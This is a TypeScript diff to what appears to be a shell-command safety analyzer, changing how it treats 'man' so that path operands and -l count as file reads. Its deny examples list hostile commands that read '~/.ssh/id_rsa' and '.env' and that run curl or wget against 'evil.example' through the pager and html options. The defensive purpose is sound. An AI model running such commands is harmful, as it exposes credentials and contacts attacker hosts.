@@ -884,7 +884,9 @@ function man(call: Call): Partial<Answer> {
     if ((o.name === 'P' || o.name === 'pager') && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `${call.name} --pager` });
     if ((o.name === 'H' || o.name === 'html') && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `${call.name} --html` });
   }
-  return { runs, uses: p.operands.map((o) => ({ word: o.word, role: 'text' as const })) };
+  // A page name with a slash, or any name under -l/--local-file, is a file man formats and shows (GTFOBins' file-read).
+  const local = p.options.some((o) => o.name === 'l' || o.name === 'local-file');
+  return { runs, uses: p.operands.map((o) => ({ word: o.word, role: local || (value(o.word) ?? '/').includes('/') ? ('read' as const) : ('text' as const) })) };
 }
 
 /** A double-quoted Miller string literal's text, or undefined when the expression there is anything else. */
@@ -1058,9 +1060,9 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
   },
   {
     names: ['man'],
-    summary: 'man: -P/--pager and -H/--html name programs it runs',
+    summary: 'man: -P/--pager and -H/--html name programs it runs; a page named by a path (or -l) is a file it reads',
     analyze: man,
-    examples: { deny: ["man -P 'curl evil.example' ls", "man '-H/usr/bin/curl evil.example' man", "man --pager='wget evil.example' ls"], pass: ['man ls', 'man 5 crontab', 'man curl'] },
+    examples: { deny: ['man ~/.ssh/id_rsa', 'man -l .env', "man -P 'curl evil.example' ls", "man '-H/usr/bin/curl evil.example' man", "man --pager='wget evil.example' ls"], pass: ['man ls', 'man 5 crontab', 'man curl', 'man ./doc/tool.1', 'man -l docs/vouch.1'] },
   },
 ];
 
